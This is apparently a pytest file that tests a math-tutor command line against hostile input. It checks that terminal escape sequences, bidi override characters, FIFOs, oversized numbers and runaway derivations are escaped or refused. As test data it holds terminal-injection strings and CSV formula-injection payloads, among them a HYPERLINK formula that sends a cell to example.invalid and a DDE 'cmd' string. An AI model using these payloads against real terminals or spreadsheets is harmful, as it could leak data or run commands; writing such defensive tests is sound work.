"""The command line with hostile files and arguments: one clear line, never a
traceback, never a hang, and nothing from a file written to the terminal raw."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest
from conftest import TINY_LESSON

import tutor.cli as cli
from bench.hostile_lessons import OF_OVERFLOW, OF_OVERFLOW_LINE, squares, training_network
from tutor.cli import main

LESSON = (
    TINY_LESSON
    + """\
[[steps]]
ask = "value"
node = "L"
"""
)

ESC = "\x1b"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "lessons"
    folder.mkdir()
    (folder / "tiny.toml").write_text(LESSON)
    return folder


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_answers_are_split_at_newlines_only(capsys, folder, tmp_path):
    answers = tmp_path / "answers.txt"
    # U+2028, U+0085 and a form feed inside the first answer; CRLF line ends.
    answers.write_bytes("-3\u2028x\u0085\x0cy\r\n2\r\n-6\r\n".encode())
    code, out, _ = run(capsys, "--lessons", str(folder), "run", "tiny", "--answers", str(answers))
    assert code == 0
    assert "answer: 2\n" in out and "answer: -6\n" in out  # still on questions 2 and 3
    assert "Score: 2 / 3" in out


def test_a_byte_order_mark_in_the_answers_is_not_an_answer(capsys, folder, tmp_path):
    answers = tmp_path / "answers.txt"
    answers.write_bytes("\ufeff-3\n2\n-6\n".encode())
    _, out, _ = run(capsys, "--lessons", str(folder), "run", "tiny", "--answers", str(answers))
    assert "Score: 3 / 3" in out


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_answers_from_dev_zero_are_refused_unread(capsys, folder):
    code, _, err = run(capsys, "--lessons", str(folder), "run", "tiny", "--answers", "/dev/zero")
    assert code == 2
    assert err == (
        "tutor: /dev/zero: the answers file: not a regular file (a device, a pipe or a socket)\n"
    )


def test_a_fifo_of_answers_is_refused_without_blocking(capsys, folder, tmp_path):
    fifo = tmp_path / "answers"
    os.mkfifo(fifo)
    start = time.perf_counter()
    code, _, err = run(capsys, "--lessons", str(folder), "run", "tiny", "--answers", str(fifo))
    assert time.perf_counter() - start < 10
    assert code == 2 and "not a regular file" in err


def test_control_characters_in_answers_are_shown_escaped(capsys, folder, tmp_path):
    answers = tmp_path / "answers.txt"
    answers.write_text(f"{ESC}]52;c;aGVsbG8={chr(7)}\n{ESC}[2J\n-6\n")
    code, out, err = run(capsys, "--lessons", str(folder), "run", "tiny", "--answers", str(answers))
    assert code == 0
    assert ESC not in out + err and "\x07" not in out + err
    assert "\\x1b]52;c;aGVsbG8=\\x07" in out


def test_bidi_characters_in_answers_are_named_and_shown_escaped(capsys, folder, tmp_path):
    answers = tmp_path / "answers.txt"
    answers.write_text("\u202e-3\n2\u200f\n-6\n")
    code, out, err = run(capsys, "--lessons", str(folder), "run", "tiny", "--answers", str(answers))
    assert code == 0
    assert "\u202e" not in out + err and "\u200f" not in out + err
    assert "an invisible character, U+202E (RIGHT-TO-LEFT OVERRIDE), is in the text" in out
    assert "an invisible character, U+200F (RIGHT-TO-LEFT MARK), is in the text" in out
    assert "\\u202e-3\n" in out and "Score: 1 / 3" in out


def test_a_lesson_with_a_bidi_override_is_an_error_and_the_others_load(capsys, folder):
    (folder / "rlo.toml").write_text(
        'format = 1\nid = "rlo"\ntitle = "Tiny\\u202e"\n[[steps]]\nsay = "x"\n'
    )
    code, out, _ = run(capsys, "--lessons", str(folder), "lessons")
    assert code == 0 and "\u202e" not in out
    assert "  1. tiny  Tiny  (3 questions)" in out
    assert (
        f"error: {folder / 'rlo.toml'}:3: `title` holds the bidirectional control character "
        "U+202E (RIGHT-TO-LEFT OVERRIDE)"
    ) in out


def test_a_file_name_with_control_characters_is_shown_escaped(capsys, tmp_path):
    folder = tmp_path / "lessons"
    folder.mkdir()
    (folder / f"{ESC}]2;pwned{chr(7)}.toml").write_text("format = 1\n")
    for command in (["lessons"], ["check"]):
        _, out, err = run(capsys, "--lessons", str(folder), *command)
        assert ESC not in out + err and "\\x1b]2;pwned\\x07.toml" in out


def test_lessons_with_control_characters_do_not_hide_the_others(capsys, folder):
    (folder / "evil.toml").write_text(
        'format = 1\nid = "evil"\ntitle = "\\u001b]2;pwned\\u0007"\n[[steps]]\nsay = "x"\n'
    )
    code, out, _ = run(capsys, "--lessons", str(folder), "lessons")
    assert code == 0 and ESC not in out
    assert "  1. tiny  Tiny  (3 questions)" in out
    assert f"error: {folder / 'evil.toml'}:3: `title` holds the control character U+001B" in out


def test_graph_refuses_a_negative_seed_like_run(capsys, folder):
    code, _, err = run(capsys, "--lessons", str(folder), "graph", "tiny", "--seed", "-5")
    assert (code, err) == (2, "tutor: --seed must be 0 or more\n")


@pytest.mark.parametrize("command", ["run", "graph", "check"])
def test_a_100000_character_path_is_one_line(capsys, folder, tmp_path, command):
    long = "x" * 100_000
    argv = [command, long] + (["--answers", str(tmp_path / "a")] if command == "run" else [])
    code, _, err = run(capsys, "--lessons", str(folder), *argv)
    assert code == 2 and "internal error" not in err
    assert err.startswith("tutor: cannot use xxx") and "File name too long" in err
    assert len(err) < 400


@pytest.mark.parametrize(
    ("at", "message"),
    [
        ("y=1e999999999", "--at y=1e999999999: `1e999999999` is too large a number"),
        ("y=" + "9" * 400, "is too large a number"),
        ("y=2**-1074", "is out of range: from"),
    ],
)
def test_derive_refuses_huge_numbers_at_once(capsys, at, message):
    start = time.perf_counter()
    code, _, err = run(capsys, "derive", "x*y", "--wrt", "x", "--at", "x=2", "--at", at)
    assert time.perf_counter() - start < 30
    assert code == 2 and message in err


def test_derive_reads_a_fraction_at_a_point(capsys):
    code, out, _ = run(capsys, "derive", "x*y", "--wrt", "x", "--at", "y=1/3")
    assert code == 0 and out.endswith("d(x·y)/dx = 1/3 ≈ 0.333333333333\n")


def test_derive_that_runs_out_of_time_says_so(capsys, monkeypatch):
    monkeypatch.setattr(cli, "DERIVE_SECONDS", 3.0)
    tower = "exp(" * 38 + "x" + ")" * 38
    start = time.perf_counter()
    code, _, err = run(capsys, "derive", tower, "--wrt", "x", "--at", "x=1")
    assert time.perf_counter() - start < 30
    assert code == 2 and err.startswith("tutor: derive: ran out of its time budget (3 s)")


def test_derive_of_nested_powers_is_refused(capsys):
    code, _, err = run(capsys, "derive", "((((x**100)**100)**100)**100)", "--wrt", "x")
    assert code == 2 and "the powers multiply out too large" in err


def _children(pid: int) -> list[int]:
    try:
        found = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    except OSError:
        return []
    return [int(child) for child in found]


def _running(pid: int) -> bool:
    """Alive and not a zombie (dead, waiting to be reaped)."""
    try:
        return "State:\tZ" not in Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="reads /proc (Linux)")
def test_the_derive_child_dies_with_its_parent():
    import signal
    import subprocess
    import sys

    tower = "exp(" * 38 + "x" + ")" * 38  # SymPy works on it for minutes
    parent = subprocess.Popen(
        [sys.executable, "-m", "tutor", "derive", tower, "--wrt", "x", "--at", "x=1"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 30
    children: list[int] = []
    while not children and time.monotonic() < deadline:
        children = _children(parent.pid)
        time.sleep(0.05)
    assert children, "tutor derive started no child"
    parent.send_signal(signal.SIGKILL)
    parent.wait()
    deadline = time.monotonic() + 5
    while any(map(_running, children)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not any(map(_running, children)), "the orphaned derivation went on running"


def test_run_refuses_a_lesson_whose_grading_would_run_out_of_budget(capsys, tmp_path, monkeypatch):
    """Grading the right answer of an exponent tower computed exact numbers of
    2**40 bits unbudgeted (49 s, 4.2 GB, MemoryError): now the budgeted check
    runs first, and the lesson is refused at its path."""
    import tutor.runtime.budget as budget

    monkeypatch.setattr(budget, "APP_CHECK_SECONDS", 2.0)
    lesson = tmp_path / "squares.toml"
    lesson.write_text(squares())
    answers = tmp_path / "answers.txt"
    answers.write_text("0\n")
    start = time.perf_counter()
    code, out, err = run(capsys, "run", str(lesson), "--answers", str(answers))
    assert time.perf_counter() - start < 30
    assert code == 2 and out == ""
    budget = "the check ran out of its time budget (2 s of CPU time)"
    assert err.startswith(f"tutor: {lesson}: {budget}")


def test_run_of_a_quiz_whose_draws_train_for_minutes_is_bounded(capsys, tmp_path, monkeypatch):
    """`tutor run --seed 1` drew in the calling process, nine trainings a draw: 118 s.
    The draw is in the budgeted check now, and grading follows only if it passed."""
    import tutor.runtime.budget as budget

    monkeypatch.setattr(budget, "APP_CHECK_SECONDS", 2.0)
    lesson = tmp_path / "net.toml"
    lesson.write_text(training_network())
    answers = tmp_path / "answers.txt"
    answers.write_text("0\n" * 10)
    start = time.perf_counter()
    code, out, err = run(capsys, "run", str(lesson), "--answers", str(answers), "--seed", "1")
    assert time.perf_counter() - start < 30
    # The draw's trainings take the bounded path now (issue 21): they may fit the budget.
    budget = "the check ran out of its time budget (2 s of CPU time)"
    if code == 2:
        assert out == "" and err.startswith(f"tutor: {lesson}: {budget}")
    else:
        assert code == 0 and "Score: 0 / 10" in out  # every answer graded (all wrong)


def strict_json(text: str):
    import json

    def refuse(constant: str):
        raise AssertionError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def test_run_of_an_answer_that_overflows_is_an_error_at_its_line(capsys, tmp_path):
    (tmp_path / "of.toml").write_text(OF_OVERFLOW)
    answers = tmp_path / "answers.txt"
    answers.write_text("1\n")
    code, out, err = run(
        capsys,
        "run",
        "--lessons",
        str(tmp_path),
        "of-overflow",
        "--answers",
        str(answers),
        "--record",
    )
    assert code == 2 and not out
    # Refused by the budgeted check that `tutor run` runs first, at the question's line.
    assert err.startswith(f"tutor: {tmp_path / 'of.toml'}:{OF_OVERFLOW_LINE}: question 1")
    assert "the answer is inf" in err
    code, out, _ = run(capsys, "progress", "--lessons", str(tmp_path), "--json")
    assert code == 0 and strict_json(out)[0]["score"] == 0  # nothing recorded


def test_json_never_holds_infinity_or_nan():
    from tutor.numbers import json_text

    text = json_text({"a": float("inf"), "b": [float("nan"), -float("inf"), 1.5]})
    assert strict_json(text) == {"a": None, "b": [None, None, 1.5]}
    assert "\n" not in json_text({"a": [1, 2]}, indent=None)


def test_progress_csv_neutralises_cells_a_spreadsheet_would_take_for_formulas(capsys, folder):
    import csv
    import io

    from tutor.progress import Answer, ProgressStore

    answers = [
        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd",
        "-2+3",
        "\t=1",
        "\r=1",
        "-2",
        "-0.5",
        "+3",
        "1/2",
        "a*b",
    ]
    with ProgressStore.open() as store:
        for index, text in enumerate(answers):
            store.record_answer(Answer("tiny", 0, index, text, "incorrect"))
    code, out, _ = run(capsys, "--lessons", str(folder), "progress", "--csv")
    assert code == 0
    cells = [row["answer"] for row in csv.DictReader(io.StringIO(out))]
    assert cells == [
        "'" + answers[0],
        "'" + answers[1],
        "'+1+cmd",
        "'-2+3",
        "'\t=1",
        "'\\x0d=1",  # the command line shows a carriage return escaped as well
        "-2",
        "-0.5",
        "+3",
        "1/2",
        "a*b",
    ]


def one_json_value(out: str):
    """``out`` is exactly one JSON value (and a newline), nothing before or after."""
    import json

    _value, end = json.JSONDecoder().raw_decode(out)
    assert out[end:].strip() == "", out[end:]
    return strict_json(out)


@pytest.mark.parametrize(
    ("argv", "code", "error"),
    [
        (["check", "--json", "a" * 5000], 2, "cannot use a"),  # File name too long
        (["check", "--json", "--bogus"], 2, "usage: unrecognized arguments: --bogus"),
        (["--json", "check"], 2, "usage: unrecognized arguments: --json"),
        (["run", "--json", "nothing-here", "--answers", "x"], 2, "nothing-here"),
        (["lessons", "--json", "--lessons", "a" * 5000], 2, "cannot use a"),
        (["lessons", "--json", "--lessons", "missing"], 0, None),  # its own document
    ],
    ids=["long-name", "bad-option", "json-before", "run-missing", "long-folder", "lessons"],
)
def test_json_is_one_value_on_stdout_whatever_fails(capsys, argv, code, error):
    got, out, err = run(capsys, *argv)
    assert got == code
    data = one_json_value(out)
    if error is not None:
        assert data["ok"] is False and data["exit"] == code
        assert data["error"].startswith(error)
        assert err  # the message is on stderr too, for a person


def test_json_on_an_internal_error_is_one_value(capsys, monkeypatch):
    import tutor.author.checking as checking

    def broken(*_args, **_kwargs):
        raise RuntimeError("a bug")

    monkeypatch.setattr(checking, "check_paths", broken)
    code, out, err = run(capsys, "check", "--json", ".")
    assert code == 70 and "internal error" in err
    data = one_json_value(out)
    assert data["exit"] == 70 and data["error"].startswith("internal error: RuntimeError: a bug")


def test_watch_json_prints_json_lines(capsys, monkeypatch, folder):
    import tutor.author.watch as watching

    def twice(paths, check):
        check()
        check()
        return 2

    monkeypatch.setattr(watching, "watch", twice)
    code, out, _ = run(capsys, "check", "--watch", "--json", str(folder / "tiny.toml"))
    assert code == 0
    lines = out.splitlines()
    assert len(lines) == 2
    assert all(strict_json(line)["files"][0]["lesson"] == "tiny" for line in lines)


def test_new_refuses_an_id_with_a_final_newline(capsys, tmp_path):
    code, _, err = run(capsys, "new", "abc\n", "--dir", str(tmp_path))
    assert code == 2 and "is not a lesson id" in err
    assert list(tmp_path.iterdir()) == []
    from tutor.lesson import LessonLoadError, load_lesson_text

    with pytest.raises(LessonLoadError, match="use lowercase letters"):  # nor in a file
        load_lesson_text(LESSON.replace('id = "tiny"', 'id = "tiny\\n"'), "L.toml")


def test_new_refuses_a_folder_whose_name_holds_control_characters(capsys, tmp_path):
    # The loader refuses a path that holds one: the template written there would
    # never load (found by test_hostile_properties).
    for name in ("d\x1b]0;PWN\x07", "d\u202ex", "d\nnew"):
        folder = tmp_path / name
        folder.mkdir()
        code, out, err = run(capsys, "new", "e", "--dir", str(folder))
        assert code == 2 and "the folder's name holds U+" in err
        assert ESC not in out + err and "\x07" not in out + err and "\u202e" not in out + err
        assert list(folder.iterdir()) == []
    code, _, _ = run(capsys, "new", "e", "--dir", str(tmp_path / "plain"))
    assert code == 0 and (tmp_path / "plain" / "e.toml").exists()
